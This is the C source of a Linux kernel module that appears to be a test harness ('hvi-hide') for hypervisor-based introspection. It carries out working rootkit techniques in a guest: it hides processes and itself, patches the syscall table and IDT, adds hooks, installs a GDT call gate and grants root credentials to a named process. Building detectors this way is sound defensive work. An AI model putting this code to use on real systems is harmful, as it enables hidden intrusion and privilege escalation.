// SPDX-License-Identifier: GPL-2.0
/*
 * What rootkits do to stay unseen, for guests that may be harmed. It does all
 * that it is told to while it is loaded and undoes nothing: the guest is lost.
 *
 *	task=NAME	take the first process of this name off the task list
 *	pids=1		and the numbers of its threads out of the PID namespace
 *	module=1	take this module off the module list
 *	sysfs=1		and its folder out of /sys/module
 *	syscall=N	point entry N of sys_call_table to a function of this module
 *	syscall_data=N	point entry N to memory that is no module's
 *	idt=N		point vector N of the interrupt table to this module
 *	lsm=1		hang a function of this module into a security hook
 *	ftrace=NAME	trace a function of the kernel's with one of this module
 *	kprobe=NAME	probe a function of the kernel's with one of this module
 *	pointer=1	point panic_blink, a variable of the kernel's, to this module
 *	cred=NAME	give the first process of this name the credentials of the
 *			kernel's first task
 *	uid=NAME	or, in place, user number 0
 *	gdt=1		put a call gate into the table of segments of this processor
 *	lgdt=1		have this processor use another table of segments, a copy
 *	lidt=1		have this processor use another table of interrupts, a copy
 *	exec=1		have a page of memory executable, as the kernel itself would
 *	nx=1		and one of vmalloc's, by its page table entry's NX bit
 *	rwx=NAME	have a function of the kernel's writable in its page table
 *
 * Each thing done is a line of the log, "hvi-hide: WHAT".
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/gfp.h>
#include <linux/idr.h>
#include <linux/init.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/lsm_hooks.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/slab.h>
#include <linux/version.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/desc_defs.h>
#include <asm/pgtable.h>

#include "kernel.h"

static char *task;
module_param(task, charp, 0);
static bool pids;
module_param(pids, bool, 0);
static bool module;
module_param(module, bool, 0);
static bool sysfs;
module_param(sysfs, bool, 0);
static int syscall = -1;
module_param(syscall, int, 0);
static int syscall_data = -1;
module_param(syscall_data, int, 0);
static int idt = -1;
module_param(idt, int, 0);
static bool lsm;
module_param(lsm, bool, 0);
static char *ftrace;
module_param(ftrace, charp, 0);

static char *kprobe;
module_param(kprobe, charp, 0);
static bool pointer;
module_param(pointer, bool, 0);
static char *cred;
module_param(cred, charp, 0);
static char *uid;
module_param(uid, charp, 0);
static bool gdt;
module_param(gdt, bool, 0);
static bool lgdt;
module_param(lgdt, bool, 0);
static bool lidt;
module_param(lidt, bool, 0);
static bool exec;
module_param(exec, bool, 0);
static bool nx;
module_param(nx, bool, 0);
static char *rwx;
module_param(rwx, charp, 0);

/* The function that hooks lead to. */
static int hooked(void)
{
	return 0;
}

static int hide_task(void)
{
	rwlock_t *lock = (rwlock_t *)lookup("tasklist_lock");
	struct task_struct *p = find_process(task), *t;

	if (!p || !lock)
		return -ESRCH;
	write_lock_irq(lock);
	list_del_init(&p->tasks);
	if (pids) {
		for_each_thread(p, t) {
			idr_remove(&init_pid_ns.idr, t->pid);
			hlist_del_init_rcu(&t->pid_links[PIDTYPE_PID]);
		}
	}
	write_unlock_irq(lock);
	pr_info("hvi-hide: task %d%s\n", p->pid, pids ? " and its numbers" : "");
	return 0;
}

static int hook_syscall(int number, void *to)
{
	void **table = (void **)lookup("sys_call_table");
	unsigned long cr0, flags;

	if (!table || !to)
		return -ENOENT;
	cr0 = wp_off(&flags);
	WRITE_ONCE(table[number], to);
	wp_on(cr0, flags);
	pr_info("hvi-hide: syscall %d to %lx\n", number, (unsigned long)to);
	return 0;
}

static int hook_idt(void)
{
	gate_desc *gate = (gate_desc *)lookup("idt_table");
	unsigned long cr0, flags, to = (unsigned long)hooked;

	if (!gate || idt > 255)
		return -ENOENT;
	gate += idt;
	cr0 = wp_off(&flags);
	gate->offset_low = to;
	gate->offset_middle = to >> 16;
	gate->offset_high = to >> 32;
	wp_on(cr0, flags);
	pr_info("hvi-hide: vector %d to %lx\n", idt, to);
	return 0;
}

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 12, 0)
static struct security_hook_list hook;

static int hook_lsm(void)
{
	struct security_hook_heads *heads = (struct security_hook_heads *)lookup("security_hook_heads");
	unsigned long cr0, flags;

	if (!heads)
		return -ENOENT;
	hook.head = &heads->sb_umount;
	hook.hook.sb_umount = (void *)hooked;
	cr0 = wp_off(&flags);
	hlist_add_head_rcu(&hook.list, hook.head);
	wp_on(cr0, flags);
	pr_info("hvi-hide: security hook to %lx\n", (unsigned long)hooked);
	return 0;
}
#else
/* From 6.12 on hooks are static calls, in the kernel's text. */
static int hook_lsm(void)
{
	return -EOPNOTSUPP;
}
#endif

static struct ftrace_ops ops = { .func = (void *)hooked };

static int hook_ftrace(void)
{
	int err = ftrace_set_filter(&ops, ftrace, strlen(ftrace), 1);

	if (!err)
		err = register_ftrace_function(&ops);
	if (!err)
		pr_info("hvi-hide: ftrace of %s\n", ftrace);
	return err;
}

static int probed(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static int hook_kprobe(void)
{
	static struct kprobe probe = { .pre_handler = probed };
	int err;

	probe.symbol_name = kprobe;
	err = register_kprobe(&probe);
	if (!err)
		pr_info("hvi-hide: kprobe at %s\n", kprobe);
	return err;
}

static int hook_pointer(void)
{
	void **blink = (void **)lookup("panic_blink");

	if (!blink)
		return -ENOENT;
	WRITE_ONCE(*blink, (void *)hooked);
	pr_info("hvi-hide: panic_blink to %lx\n", (unsigned long)hooked);
	return 0;
}

static int give_cred(void)
{
	struct task_struct *p = find_process(cred);

	if (!p)
		return -ESRCH;
	rcu_assign_pointer(p->real_cred, get_cred(init_task.real_cred));
	rcu_assign_pointer(p->cred, get_cred(init_task.real_cred));
	pr_info("hvi-hide: credentials of task %d\n", p->pid);
	return 0;
}

static int give_uid(void)
{
	struct task_struct *p = find_process(uid);
	struct cred *c;

	if (!p)
		return -ESRCH;
	c = (struct cred *)rcu_dereference_protected(p->real_cred, 1);
	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
	pr_info("hvi-hide: user of task %d\n", p->pid);
	return 0;
}

static int add_gate(void)
{
	/* Where there is no LDT the two entries of its descriptor are empty. */
	u64 *entry = (u64 *)get_current_gdt_rw() + GDT_ENTRY_LDT;
	unsigned long to = (unsigned long)hooked;

	entry[1] = to >> 32;
	/* Present, for ring 3, type 12, to the kernel's code segment. */
	entry[0] = (to & 0xffff) | (u64)__KERNEL_CS << 16 | 0xecULL << 40 | (to >> 16 & 0xffff) << 48;
	pr_info("hvi-hide: call gate to %lx\n", to);
	return 0;
}

static int move_gdt(void)
{
	void *copy = (void *)get_zeroed_page(GFP_KERNEL);
	struct desc_ptr p;

	if (!copy)
		return -ENOMEM;
	asm volatile("sgdt %0" : "=m"(p));
	memcpy(copy, (void *)p.address, p.size + 1);
	p.address = (unsigned long)copy;
	asm volatile("lgdt %0" : : "m"(p));
	pr_info("hvi-hide: table of segments to %lx\n", p.address);
	return 0;
}

static int move_idt(void)
{
	void *table = (void *)lookup("idt_table"), *copy = (void *)get_zeroed_page(GFP_KERNEL);
	struct desc_ptr p = { .size = PAGE_SIZE - 1 };

	if (!table || !copy)
		return -ENOMEM;
	memcpy(copy, table, PAGE_SIZE);
	p.address = (unsigned long)copy;
	asm volatile("lidt %0" : : "m"(p));
	pr_info("hvi-hide: interrupt table to %lx\n", p.address);
	return 0;
}

static int make_executable(void)
{
	int (*set_x)(unsigned long, int) = (void *)lookup("set_memory_x");
	unsigned long page = __get_free_page(GFP_KERNEL);
	int err;

	if (!set_x || !page)
		return -ENOMEM;
	*(u8 *)page = 0xc3; /* ret */
	err = set_x(page, 1);
	if (!err)
		pr_info("hvi-hide: executable page at %lx\n", page);
	return err;
}

/* Of the entry that maps an address, some bits are set and some cleared. */
static int change_entry(unsigned long at, u64 set, u64 clear)
{
	unsigned int level;
	pte_t *entry = lookup_address(at, &level);

	if (!entry)
		return -EFAULT;
	WRITE_ONCE(*(u64 *)entry, (READ_ONCE(*(u64 *)entry) | set) & ~clear);
	pr_info("hvi-hide: entry of level %u for %lx\n", level, at);
	return 0;
}

static int clear_nx(void)
{
	u8 *page = vmalloc(PAGE_SIZE);

	if (!page)
		return -ENOMEM;
	*page = 0xc3; /* ret */
	return change_entry((unsigned long)page, 0, _PAGE_NX);
}

static int make_writable(void)
{
	unsigned long at = lookup(rwx);

	return at ? change_entry(at, _PAGE_RW, 0) : -ENOENT;
}

static void hide_module(void)
{
	struct mutex *lock = (struct mutex *)lookup("module_mutex");

	if (lock)
		mutex_lock(lock);
	list_del_rcu(&THIS_MODULE->list);
	if (lock)
		mutex_unlock(lock);
	pr_info("hvi-hide: module at %lx\n", (unsigned long)THIS_MODULE);
	if (sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
}

static int __init hide_init(void)
{
	int err = 0;

	if (task)
		err = hide_task();
	if (!err && syscall >= 0)
		err = hook_syscall(syscall, hooked);
	if (!err && syscall_data >= 0)
		err = hook_syscall(syscall_data, kzalloc(PAGE_SIZE, GFP_KERNEL));
	if (!err && idt >= 0)
		err = hook_idt();
	if (!err && lsm)
		err = hook_lsm();
	if (!err && ftrace)
		err = hook_ftrace();
	if (!err && kprobe)
		err = hook_kprobe();
	if (!err && pointer)
		err = hook_pointer();
	if (!err && cred)
		err = give_cred();
	if (!err && uid)
		err = give_uid();
	if (!err && gdt)
		err = add_gate();
	if (!err && lgdt)
		err = move_gdt();
	if (!err && lidt)
		err = move_idt();
	if (!err && exec)
		err = make_executable();
	if (!err && nx)
		err = clear_nx();
	if (!err && rwx)
		err = make_writable();
	if (!err && module)
		hide_module();
	return err;
}
module_init(hide_init);

MODULE_DESCRIPTION("Hides processes, modules and hooks, for tests");
MODULE_LICENSE("GPL");
